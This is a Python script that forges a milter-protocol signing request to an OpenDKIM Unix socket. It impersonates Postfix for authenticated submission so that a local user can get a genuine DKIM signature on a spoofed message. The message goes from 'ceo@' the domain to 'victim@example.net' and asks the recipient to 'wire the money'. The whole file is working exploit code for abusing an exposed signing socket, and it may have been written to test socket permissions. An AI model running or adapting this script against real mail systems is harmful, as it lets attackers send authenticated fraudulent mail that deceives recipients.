"""A forged signing request to OpenDKIM, speaking the milter protocol (version 6) on its socket the
way Postfix would for authenticated submission: {daemon_name}=ORIGINATING, a message From our
domain. Prints the DKIM-Signature OpenDKIM inserts, or the error; exit 0 only when signed.

Run with the system python3 by any user: python3 milter_sign_request.py SOCKET DOMAIN
"""

from __future__ import annotations

import socket
import struct
import sys


def packet(cmd: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data) + 1) + cmd + data


def read(sock: socket.socket) -> tuple[bytes, bytes]:
    def exact(n: int) -> bytes:
        buf = b""
        while len(buf) < n:
            chunk = sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("milter closed the connection")
            buf += chunk
        return buf

    (length,) = struct.unpack(">I", exact(4))
    body = exact(length)
    return body[:1], body[1:]


def main(path: str, domain: str) -> int:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(path)
    except OSError as exc:
        print(f"connect: {exc.__class__.__name__}: {exc}")
        return 2
    sock.settimeout(10)
    # Negotiate: version 6, we accept header additions/insertions, all protocol steps sent.
    sock.sendall(packet(b"O", struct.pack(">III", 6, 0x1FF, 0)))
    cmd, _ = read(sock)
    assert cmd == b"O", cmd

    def send(cmd: bytes, data: bytes, macros: bytes = b"") -> bytes:
        if macros:
            sock.sendall(packet(b"D", cmd + macros))
        sock.sendall(packet(cmd, data))
        reply, _ = read(sock)
        return reply

    originating = b"{daemon_name}\0ORIGINATING\0j\0mail." + domain.encode() + b"\0"
    send(b"C", b"localhost\x004" + struct.pack(">H", 12345) + b"127.0.0.1\0", originating)
    send(b"H", b"localhost\0")
    send(
        b"M",
        f"<ceo@{domain}>\0".encode(),
        b"i\0FORGED1\0{auth_authen}\0ceo@" + domain.encode() + b"\0",
    )
    send(b"R", b"<victim@example.net>\0")
    for name, value in (
        ("From", f"ceo@{domain}"),
        ("To", "victim@example.net"),
        ("Subject", "wire the money"),
        ("Date", "Sun, 29 Nov 2026 12:00:00 +0000"),
        ("Message-ID", f"<forged@{domain}>"),
    ):
        send(b"L", name.encode() + b"\0" + value.encode() + b"\0")
    send(b"N", b"")
    send(b"B", b"Please wire the money today.\r\n")
    sock.sendall(packet(b"E"))
    signature = None
    while True:
        cmd, data = read(sock)
        if cmd in (b"h", b"i"):
            fields = (data[4:] if cmd == b"i" else data).split(b"\0")
            if fields[0].lower() == b"dkim-signature":
                signature = fields[1].decode()
            continue
        break
    sock.close()
    if signature is None:
        print(f"no signature; final reply {cmd!r}")
        return 1
    print(f"DKIM-Signature: {signature}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], sys.argv[2]))
